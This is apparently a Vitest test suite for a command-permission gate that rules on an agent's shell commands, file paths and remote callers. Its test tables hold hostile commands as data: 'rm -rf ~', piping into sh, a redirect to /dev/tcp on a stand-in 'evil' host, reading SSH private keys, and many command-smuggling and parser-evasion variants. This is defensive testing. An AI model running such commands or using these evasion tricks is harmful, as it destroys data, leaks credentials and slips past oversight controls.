import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { decideForCaller } from '../../src/gate/caller.js';
import { createGate, type Gate } from '../../src/gate/gate.js';
import { compilePolicy, type RuleLists } from '../../src/gate/policy.js';
import type { GateRequest, Mode } from '../../src/gate/types.js';
import { createFsPathResolver } from '../../src/platform/fs-path-resolver.js';

let root: string;
let home: string;
let gate: Gate;

beforeAll(async () => {
  root = mkdtempSync(join(tmpdir(), 'cmdop-gate-'));
  home = join(root, 'home');
  mkdirSync(join(home, 'projects', 'app'), { recursive: true });
  mkdirSync(join(root, 'srv', 'data'), { recursive: true });
  writeFileSync(join(home, 'projects', 'app', 'README.md'), 'x');
  writeFileSync(join(root, 'srv', 'data', 'secret.txt'), 'x');
  // A link inside an allowed tree that points outside it.
  symlinkSync(join(root, 'srv', 'data'), join(home, 'projects', 'app', 'data-link'));
  gate = await createGate({ home, cmdopHome: join(root, 'cmdop-home'), resolver: createFsPathResolver() });
});

afterAll(() => {
  rmSync(root, { recursive: true, force: true });
});

interface PolicySpec {
  mode?: Mode;
  enabled?: boolean;
  allow?: string[];
  deny?: string[];
  ask?: string[];
  session?: Partial<RuleLists>;
}

function policyOf(spec: PolicySpec): ReturnType<typeof compilePolicy> {
  return compilePolicy({
    mode: spec.mode ?? 'default',
    enabled: spec.enabled ?? true,
    rules: { allow: spec.allow ?? [], deny: spec.deny ?? [], ask: spec.ask ?? [] },
    session: { allow: spec.session?.allow ?? [], deny: spec.session?.deny ?? [], ask: spec.session?.ask ?? [] },
    home,
  });
}

function decide(spec: PolicySpec, request: GateRequest): ReturnType<Gate['evaluate']> {
  return gate.evaluate(request, policyOf(spec));
}

const cmd = (target: string): GateRequest => ({ tool: 'execute_command', target });

describe('commands against allow rules', () => {
  const gitOnly: PolicySpec = { mode: 'default', allow: ['execute_command(git *)'] };
  it.each([
    ['git commit -m "fix a/b"', 'allow'],
    ['git status && git diff', 'allow'],
    ['git status || git diff | git apply', 'allow'],
    ['git status\ngit log', 'allow'],
    ['git', 'allow'],
    ['git status; rm -rf ~', 'deny'],
    ['git status && rm -rf ./build', 'ask'],
    ['git status | sh', 'deny'],
    ['git $(rm -rf ./build)', 'ask'],
    ['git $(rm -rf ~)', 'deny'],
    ['git `id`', 'ask'],
    ['git status <(id)', 'ask'],
    ['git log $HOME', 'ask'],
    ['git log ${HOME}', 'ask'],
    ['git log $((1+1))', 'ask'],
    ['eval git status', 'ask'],
    ['bash -c "git status"', 'ask'],
    ['sh -c git', 'ask'],
    ['GIT_DIR=/tmp git status', 'ask'],
    ['git status &', 'ask'],
    ['(git status)', 'ask'],
    ['{ git status; }', 'ask'],
    ['if true; then git status; fi', 'ask'],
    ['for x in a; do git status; done', 'ask'],
    ['f() { git status; }; f', 'ask'],
    ['git apply <<EOF\nx\nEOF', 'ask'],
    ['git apply <<< x', 'ask'],
    ["git commit -m $'\\x41'", 'ask'],
    ['g?t status', 'ask'],
    ['{git,rm} status', 'ask'],
    ['git status \\\n&& rm -rf x', 'ask'],
    ['git status\r', 'ask'],
    ['git status\u0000', 'ask'],
    ['git "status', 'ask'],
    ['timeout 5 git status', 'ask'],
    ['/usr/bin/git status', 'ask'],
    ['GIT status', 'ask'],
    ['git log > /tmp/out.txt', 'ask'],
    ['git log 2>/dev/null', 'allow'],
    ['git log 2>&1', 'allow'],
    ['git commit -m "a; rm -rf ~"', 'allow'],
    ["git commit -m 'a && rm -rf ~'", 'allow'],
    ['git commit -m "$(rm -rf ./build)"', 'ask'],
    // Found in review: bash does not take \f or \v for blanks, so `\f#` is no comment.
    ['git status \f#; rm -rf ./x', 'ask'],
    ['git log\v#|evil', 'ask'],
    ['git log >& /tmp/out', 'ask'],
    ['git log >&/dev/tcp/evil.example/80', 'ask'],
    ['git log >&2', 'allow'],
    ['git log "${x:-`id`}"', 'ask'],
    ["git log $'--all'", 'ask'],
    // tree-sitter reads these as one git command; bash runs the next line on its own.
    ['git ==\ncat notes.txt', 'ask'],
    ['git a =~\n\ncurl example.com', 'ask'],
    ['git ==\n"cat" x', 'ask'],
    ['git log | git x | git y\ncat notes.txt || git z', 'ask'],
    ['git log | git x | git y\ngit a || git z', 'allow'],
  ])('%j → %s', (line, expected) => {
    expect(decide(gitOnly, cmd(line)).decision).toBe(expected);
  });

  it('names the rule, its id and scope in the decision', () => {
    const d = decide(gitOnly, cmd('git status'));
    expect(d).toMatchObject({ decision: 'allow', source: 'rule', rule: 'execute_command(git *)', scope: 'global' });
    expect(d.rule_id).toMatch(/^[0-9a-f]{64}$/);
    expect(d.reason).toContain('git *');
  });

  it('explains why an opaque line fell to the mode', () => {
    const d = decide(gitOnly, cmd('git $(id)'));
    expect(d).toMatchObject({ decision: 'ask', source: 'mode' });
    expect(d.reason).toContain('substitution');
  });

  it('lets an exact rule allow an opaque line, and only that line', () => {
    const spec: PolicySpec = { allow: ['execute_command(echo $(date))'] };
    expect(decide(spec, cmd('echo $(date)')).decision).toBe('allow');
    expect(decide(spec, cmd('echo $(date); id')).decision).toBe('ask');
  });
});

describe('commands against deny rules', () => {
  const spec: PolicySpec = { mode: 'bypass', allow: ['execute_command'], deny: ['execute_command(rm *)'] };
  it.each([
    ['rm -rf ./build', 'deny'],
    ['rm', 'deny'],
    ['ls && rm x', 'deny'],
    ['/usr/bin/rm x', 'deny'],
    ['/bin/rm -f x', 'deny'],
    ['sudo rm x', 'deny'],
    ['timeout 5 rm x', 'deny'],
    ['env FOO=1 rm x', 'deny'],
    ['echo $(rm x)', 'deny'],
    ['bash -c "rm x"', 'deny'],
    ['sh -c \'ls; rm x\'', 'deny'],
    ['eval rm x', 'deny'],
    ['find . -exec rm {} +', 'deny'],
    ['xargs rm < list', 'deny'],
    ["'rm' x", 'deny'],
    ['r\\m x', 'deny'],
    ['FOO=1 rm x', 'deny'],
    ['(rm x)', 'deny'],
    ["'r'\\m x", 'deny'],
    ['"r"\\m x', 'deny'],
    ['git ==; rm x', 'deny'],
    ['git == x && rm y', 'deny'],
    // Seen by the chaining property in CI: an assignment or a wrapper after the unparseable part.
    ['git ==; FOO=1 rm', 'deny'],
    ['git ==; sudo rm x', 'deny'],
    // tree-sitter reads on across a newline after `==` or `=~`; bash does not.
    ['git ==\n"rm"; git x', 'deny'],
    ['git a ==\n\nrm', 'deny'],
    ['git =~\nrm x', 'deny'],
    ['git ==; env A=1 timeout 3 rm x', 'deny'],
    ['cat <<EOF && rm x\nbody\nEOF', 'deny'],
    ['cat <<EOF | rm x\nbody\nEOF', 'deny'],
    ['time (rm x)', 'deny'],
    ['for f in a; do rm $f; done', 'deny'],
    // Found in review: wrappers, option clusters, code in odd places.
    ['env -S "rm x"', 'deny'],
    ['env -iu X rm x', 'deny'],
    ['env -iu X -S "rm x"', 'deny'],
    ['env -C /tmp -S "rm x"', 'deny'],
    // Found by the chaining property: a -S after the command belongs to the command.
    ['env A=1 rm x -Sy', 'deny'],
    ['echo $(env A=1 rm w -S==k)', 'deny'],
    ['sudo -iu root rm x', 'deny'],
    ['busybox rm x', 'deny'],
    ['coproc rm x', 'deny'],
    ['runuser -u x -- rm x', 'deny'],
    ['su -c "rm x" root', 'deny'],
    ['flock /tmp/l -c "rm x"', 'deny'],
    ['trap "rm x" EXIT', 'deny'],
    ['watch "rm x"', 'deny'],
    ['bash -o errexit -c "rm x"', 'deny'],
    ['echo "${x:-`rm x`}"', 'deny'],
    ['/bin/{rm,ls} x', 'deny'],
    ["$'rm' x", 'deny'],
    ["$'\\x72m' x", 'deny'],
    ['pkexec rm x', 'deny'],
    ['unshare -r rm x', 'deny'],
    ['systemd-run --uid 0 rm x', 'deny'],
    ['ls \f#; rm x', 'deny'],
    ['ls', 'allow'],
    ['echo "rm x"', 'allow'],
    ['ls rm', 'allow'],
  ])('%j → %s', (line, expected) => {
    expect(decide(spec, cmd(line)).decision).toBe(expected);
  });
});

describe('precedence', () => {
  it('deny beats allow in the same scope', () => {
    const d = decide({ allow: ['execute_command(git *)'], deny: ['execute_command(git push *)'] }, cmd('git push origin'));
    expect(d).toMatchObject({ decision: 'deny', rule: 'execute_command(git push *)' });
  });
  it('a session allow never lifts a global deny', () => {
    const d = decide({ deny: ['execute_command(git push *)'], session: { allow: ['execute_command(git push origin)'] } }, cmd('git push origin'));
    expect(d).toMatchObject({ decision: 'deny', scope: 'global' });
  });
  it('a session deny beats a global allow', () => {
    const d = decide({ allow: ['execute_command(git *)'], session: { deny: ['execute_command(git push *)'] } }, cmd('git push'));
    expect(d).toMatchObject({ decision: 'deny', scope: 'session' });
  });
  it('ask beats allow within a scope', () => {
    const d = decide({ allow: ['execute_command(git *)'], ask: ['execute_command(git push *)'] }, cmd('git push'));
    expect(d).toMatchObject({ decision: 'ask', source: 'rule', rule: 'execute_command(git push *)' });
  });
  it('a session allow lifts a global ask', () => {
    const d = decide({ ask: ['execute_command(git push *)'], session: { allow: ['execute_command(git push origin)'] } }, cmd('git push origin'));
    expect(d).toMatchObject({ decision: 'allow', scope: 'session' });
  });
  it('a session ask beats a global allow', () => {
    const d = decide({ allow: ['execute_command(git *)'], session: { ask: ['execute_command(git *)'] } }, cmd('git status'));
    expect(d).toMatchObject({ decision: 'ask', scope: 'session' });
  });
  it('every part of a line needs an allow; one ask part asks', () => {
    const spec: PolicySpec = { allow: ['execute_command(git *)', 'execute_command(npm test)'], ask: ['execute_command(npm publish *)'] };
    expect(decide(spec, cmd('git status && npm test')).decision).toBe('allow');
    expect(decide(spec, cmd('git status && npm publish --tag x')).decision).toBe('ask');
  });
  it('parts may be allowed by rules from different scopes', () => {
    const d = decide({ allow: ['execute_command(git *)'], session: { allow: ['execute_command(npm test)'] } }, cmd('git status && npm test'));
    expect(d.decision).toBe('allow');
  });
  it('a negated rule matches what its glob does not', () => {
    const spec: PolicySpec = { mode: 'bypass', deny: ['execute_command(!git *)'] };
    expect(decide(spec, cmd('git status')).decision).toBe('allow');
    expect(decide(spec, cmd('git status; ls')).decision).toBe('deny');
  });
  it('operations restrict dispatcher rules', () => {
    const spec: PolicySpec = { mode: 'strict', allow: ['connect(exec:prod-*)'] };
    expect(decide(spec, { tool: 'connect', operation: 'exec', target: 'PROD-web' }).decision).toBe('allow');
    expect(decide(spec, { tool: 'connect', operation: 'shell', target: 'prod-web' }).decision).toBe('deny');
  });
});

describe('modes', () => {
  it.each([
    ['default', 'read_file', 'allow'],
    ['default', 'list_dir', 'allow'],
    ['default', 'write_file', 'ask'],
    ['default', 'execute_command', 'ask'],
    ['default', 'ask_agent', 'ask'],
    ['strict', 'read_file', 'ask'],
    ['strict', 'write_file', 'deny'],
    ['strict', 'connect', 'deny'],
    ['bypass', 'write_file', 'allow'],
    ['bypass', 'ssh_session', 'allow'],
  ] as const)('mode %s: %s with no rule → %s', (mode, tool, expected) => {
    const target = tool === 'execute_command' ? 'ls' : tool.endsWith('file') || tool === 'list_dir' ? join(home, 'projects', 'app', 'README.md') : 'peer-1';
    const d = decide({ mode }, { tool, target });
    expect(d).toMatchObject({ decision: expected, source: 'mode' });
  });

  it('permissions.enabled: false lifts rules and modes but not the floor', () => {
    const spec: PolicySpec = { mode: 'strict', enabled: false, deny: ['execute_command(ls *)'] };
    expect(decide(spec, cmd('ls -la')).decision).toBe('allow');
    expect(decide(spec, cmd('cat ~/.ssh/id_rsa')).decision).toBe('deny');
    expect(decide(spec, { tool: 'write_file', target: '/etc/passwd' })).toMatchObject({ decision: 'deny', source: 'floor' });
  });
});

describe('paths', () => {
  const spec: PolicySpec = { mode: 'strict', allow: ['read_file(~/projects/**)', 'write_file(~/projects/**)'] };
  it('allows paths inside an allowed tree, in every spelling', () => {
    for (const target of ['~/projects/app/README.md', `${home}/projects/app/README.md`, `${home}//projects/./app/../app/README.md`, 'projects/app/README.md']) {
      expect(decide(spec, { tool: 'read_file', target }).decision).toBe('allow');
    }
  });
  it('a file not yet written resolves through its deepest existing ancestor', () => {
    expect(decide(spec, { tool: 'write_file', target: '~/projects/app/new/dir/file.txt' }).decision).toBe('allow');
  });
  it('does not allow a symlink that leads out of the allowed tree', () => {
    const d = decide(spec, { tool: 'read_file', target: '~/projects/app/data-link/secret.txt' });
    expect(d.decision).toBe('ask');
  });
  it('denies when either the written or the resolved form is denied', () => {
    const deny: PolicySpec = { ...spec, deny: [`read_file(${root}/srv/**)`] };
    expect(decide(deny, { tool: 'read_file', target: '~/projects/app/data-link/secret.txt' })).toMatchObject({ decision: 'deny', source: 'rule' });
  });
  it('follows .. after a symlink as the kernel does', () => {
    // data-link points at <root>/srv/data; data-link/../secret.txt is <root>/srv/secret.txt.
    const d = decide(spec, { tool: 'read_file', target: '~/projects/app/data-link/../README.md' });
    expect(d.decision).toBe('ask');
    expect(decide({ ...spec, deny: [`read_file(${root}/srv/*)`] }, { tool: 'read_file', target: '~/projects/app/data-link/../README.md' }).decision).toBe('deny');
  });
  it('leaves the allowed tree with .. and is not allowed', () => {
    expect(decide(spec, { tool: 'read_file', target: '~/projects/../x.txt' }).decision).toBe('ask');
  });
  it('matches dotfiles with **', () => {
    expect(decide({ mode: 'strict', deny: ['read_file(/srv/**)'] }, { tool: 'read_file', target: '/srv/.hidden' }).decision).toBe('deny');
  });
  it('relative cwd applies to relative paths', () => {
    expect(decide(spec, { tool: 'read_file', target: 'README.md', cwd: '~/projects/app' }).decision).toBe('allow');
  });
});

describe('host names', () => {
  it('compares case-insensitively', () => {
    expect(decide({ mode: 'strict', allow: ['ask_agent(VPS-*)'] }, { tool: 'ask_agent', target: 'vps-audi' }).decision).toBe('allow');
    expect(decide({ mode: 'bypass', deny: ['connect(Prod-DB)'] }, { tool: 'connect', operation: 'exec', target: 'prod-db' }).decision).toBe('deny');
  });
});

describe('hostile input', () => {
  it.each([
    ['a deep stack of wrappers', 'sudo '.repeat(4000) + 'ls'],
    ['thousands of brace groups', 'cat ' + '{a,b}'.repeat(6000)],
    ['a flood of heredocs', 'cat <<E' + ' <<E'.repeat(5000)],
    ['a flood of pipes', 'ls|'.repeat(20_000) + 'id'],
    ['deep nesting', '$('.repeat(3000) + 'ls' + ')'.repeat(3000)],
    ['unbalanced everything', '"\'`$({[<'.repeat(2000)],
  ])('%s gets a decision, never an exception or an allow by wildcard', (_what, line) => {
    const d = decide({ mode: 'default', allow: ['execute_command(ls *)', 'execute_command(cat *)', 'execute_command(sudo *)'] }, cmd(line));
    expect(['deny', 'ask']).toContain(d.decision);
  });
});

describe('requests', () => {
  it('refuses a bad operation or an empty target', () => {
    expect(() => decide({}, { tool: 'read_file', operation: 'exec', target: '/x' })).toThrow(/unknown operation/);
    expect(() => decide({}, { tool: 'read_file', target: '' })).toThrow(/empty/);
  });
});

describe('who is gated', () => {
  const self = { host: 'vps-audi', principal: 'host:vps-audi' };
  const strict = (): ReturnType<typeof policyOf> => policyOf({ mode: 'strict' });
  it('a peer with its own identity is gated even if it names this host', () => {
    const d = decideForCaller(gate, strict(), { self, selfBypass: true }, { kind: 'remote', host: 'vps-bmw', principal: 'host:vps-bmw' }, cmd('ls'));
    expect(d).toMatchObject({ decision: 'deny', source: 'mode' });
  });
  it('this host calling itself is not gated, but the floor still applies', () => {
    const caller = { kind: 'remote', host: 'VPS-AUDI', principal: 'host:vps-audi' } as const;
    expect(decideForCaller(gate, strict(), { self, selfBypass: true }, caller, cmd('ls'))).toMatchObject({ decision: 'allow', source: 'self' });
    expect(decideForCaller(gate, strict(), { self, selfBypass: true }, caller, cmd('rm -rf /'))).toMatchObject({ decision: 'deny', source: 'floor' });
  });
  it('self_bypass: false gates this host too', () => {
    const caller = { kind: 'remote', host: 'vps-audi', principal: 'host:vps-audi' } as const;
    expect(decideForCaller(gate, strict(), { self, selfBypass: false }, caller, cmd('ls'))).toMatchObject({ decision: 'deny', source: 'mode' });
  });
  it('the same host name with another principal is gated', () => {
    const caller = { kind: 'remote', host: 'vps-audi', principal: 'user:mallory' } as const;
    expect(decideForCaller(gate, strict(), { self, selfBypass: true }, caller, cmd('ls')).source).toBe('mode');
  });
  it('the local operator is not gated', () => {
    expect(decideForCaller(gate, strict(), { self, selfBypass: true }, { kind: 'local' }, cmd('ls')).source).toBe('local');
  });
});
